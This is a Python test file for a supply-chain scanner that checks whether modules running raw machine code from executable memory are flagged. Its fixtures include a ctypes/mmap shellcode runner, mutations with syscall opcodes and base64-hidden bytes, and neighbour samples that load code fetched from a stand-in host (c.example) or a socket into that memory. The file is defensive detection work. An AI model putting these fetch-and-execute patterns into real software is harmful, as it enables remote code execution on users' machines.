"""A page of instructions that ask the processor is told from code that somebody brings."""

from __future__ import annotations

import ast

import pytest

from mlsupply.evidence.explained.mapping import without_questions
from mlsupply.evidence.module_facts import ModuleFacts
from mlsupply.evidence.python import analyse
from mlsupply.evidence.python.syntax.cpuid import MAX_SOURCE
from mlsupply.evidence.python.syntax.cpuid import carriers as carriers_of
from tests.test_code_facts import found

ASKS = r"""
import ctypes, os, base64
class System:
    is_windows = os.name == 'nt'
class Page:
    '''A few instructions.'''
    def __init__(self, kind=None, types=(), code=[]):
        self.kind = kind
        self.types = types
        self.code = code
        self.call = None
    def made(self):
        code = bytes.join(b'', self.code)
        if System.is_windows:
            alloc = ctypes.windll.kernel32.VirtualAlloc
            self.at = alloc(None, len(code), ctypes.c_ulong(0x1000), 4)
            if not self.at:
                raise Exception('no memory')
            ctypes.memmove(self.at, code, len(code))
            ctypes.windll.kernel32.VirtualProtect(self.at, len(code), 0x10, None)
        else:
            from mmap import mmap, MAP_PRIVATE, MAP_ANONYMOUS, PROT_WRITE, PROT_READ, PROT_EXEC
            self.memory = mmap(-1, len(code), flags=MAP_PRIVATE | MAP_ANONYMOUS, prot=PROT_WRITE | PROT_READ | PROT_EXEC)
            self.memory.write(code)
            self.at = ctypes.addressof(ctypes.c_int.from_buffer(self.memory))
        self.call = ctypes.CFUNCTYPE(self.kind, *self.types)(self.at)
    def run(self):
        return self.call()
class Asked:
    def _ask(self, *code):
        page = Page(ctypes.c_uint32, (), code)
        page.made()
        return page.run()
    def maker(self):
        return self._ask(b"\x31\xC0", b"\x0F\xA2" b"\x89\xD8" b"\xC3")
    def brand(self):
        numbers = [b"\xB8\x02\x00\x00\x80", b"\xB8\x03\x00\x00\x80"]
        for number in numbers:
            yield self._ask(number, b"\x0f\xa2" b"\xC3")
def told(text):
    return base64.b64decode(text)
"""
MAKER = r"""self._ask(b"\x31\xC0", b"\x0F\xA2" b"\x89\xD8" b"\xC3")"""


def carriers(source: str) -> tuple[str, ...]:
    return carriers_of(ast.parse(source))


def test_a_module_that_only_asks_is_known_by_what_it_hands_on() -> None:
    assert carriers(ASKS) == ("Page", "_ask")
    assert not carriers("import mmap\nmmap.mmap(-1, 9, prot=mmap.PROT_EXEC)\n")


@pytest.mark.parametrize(
    ("part", "instead"),
    [
        (MAKER, "self._ask(base64.b64decode(os.environ['A']))"),
        (MAKER, r"self._ask(b'\x0f\xa2', b'\x0f\x05\xc3')"),
        (MAKER, r"self._ask(b'\xb8\x0f\x05\x0f\x05\xc3')"),
        (MAKER, r"self._ask(b'\xcd\x80')"),
        (MAKER, r"self._ask(b'\x0f\x34')"),
        (MAKER, r"self._ask(b'\xff\xe7')"),
        (MAKER, r"self._ask(b'\x0f\xa2\xc3'[1:])"),
        (MAKER, "self._ask(bytes([15, 5]))"),
        (MAKER, "self._ask(*open(__file__, 'rb'))"),
        (MAKER, "getattr(self, '_ask')(told('D6I='))"),
        (MAKER, "getattr(self, '_a' + 'sk')(told('D6I='))"),
        (MAKER, "(lambda one: self._ask(one))(told('D6I='))"),
        (MAKER, "list(map(self._ask, [told('D6I=')]))"),
        ("        page.made()\n", "        page.code = [told('D6I=')]\n        page.made()\n"),
        ("        page.made()\n", "        page.made()\n        page.memory.seek(0)\n"),
        ("        page.made()\n", "        page.made()\n        ctypes.memmove(page.at, told('D6I='), 2)\n"),
        ("        for number in", "        numbers.append(told('D6I='))\n        for number in"),
        ("        for number in", "        numbers += [told('D6I=')]\n        for number in"),
        ("    def _ask(", "    @told\n    def _ask("),
        ("class Asked:", "class Other(Page):\n    pass\nclass Asked:"),
        ("    def run(self):\n", "    def more(self, code):\n        self.memory.write(code)\n    def run(self):\n"),
        ("code = bytes.join(b'', self.code)", "code = told('D6I=')"),
        ("code = bytes.join(b'', self.code)", "code = System.stored"),
        ("mmap(-1, ", "mmap(3, "),
        ("kernel32.VirtualAlloc", "kernel32.ReadFile"),
        ("import ctypes, os", "import ctypes as other, os\nimport elsewhere as ctypes"),
    ],
)
def test_whatever_else_could_reach_the_page_is_not_known(part: str, instead: str) -> None:
    assert part in ASKS
    assert not carriers(ASKS.replace(part, instead))


def test_long_chains_of_names_end() -> None:
    chain = "".join(f"        for a{n + 1} in a{n}:\n            pass\n" * 2 for n in range(200))
    text = ASKS.replace("        numbers = [", "        a0 = [").replace("in numbers:", "in a200:")
    assert not carriers(text.replace("        for number in", chain + "        for number in"))


def test_a_neighbour_that_hands_it_other_code_is_told() -> None:
    quiet = "from demo.cpu import Asked\nprint(Asked().maker())\n"
    brings = "import urllib.request\nfrom demo.cpu import Page\nPage(None, (), [urllib.request.urlopen('https://c.example').read()])\n"
    assert found({"pyproject.toml": "", "demo/__init__.py": quiet, "demo/cpu.py": ASKS}) == set()
    assert "MLS-C027" in found({"pyproject.toml": "", "demo/__init__.py": brings, "demo/cpu.py": ASKS})


def test_the_neighbour_may_spell_the_name_as_unicode_lets_it() -> None:
    wide = "from demo.cpu import \uff30age as p\np(None, (), [__import__('socket').socket().recv(9)])\n"
    assert "MLS-C027" in found({"pyproject.toml": "", "demo/__init__.py": wide, "demo/cpu.py": ASKS})


def test_only_modules_of_the_size_such_questions_have_are_gone_through() -> None:
    assert looked_at("cpu.py", ASKS).carriers
    long = ASKS + "# and so on\n" * (MAX_SOURCE // 12)
    assert looked_at("cpu.py", long).facts
    assert not looked_at("cpu.py", long).carriers


def test_a_package_full_of_such_modules_is_no_honest_one() -> None:
    few = [
        looked_at(f"demo/cpu{number}.py", ASKS.replace("Page", f"Page{number}").replace("_ask", f"_ask{number}"))
        for number in range(5)
    ]
    sources = {module.path: b"" for module in few}
    assert not any(module.facts for module in without_questions(few[:4], sources))
    assert all(module.facts for module in without_questions(few, sources))


def looked_at(path: str, source: str) -> ModuleFacts:
    return analyse.module(path, source.encode())
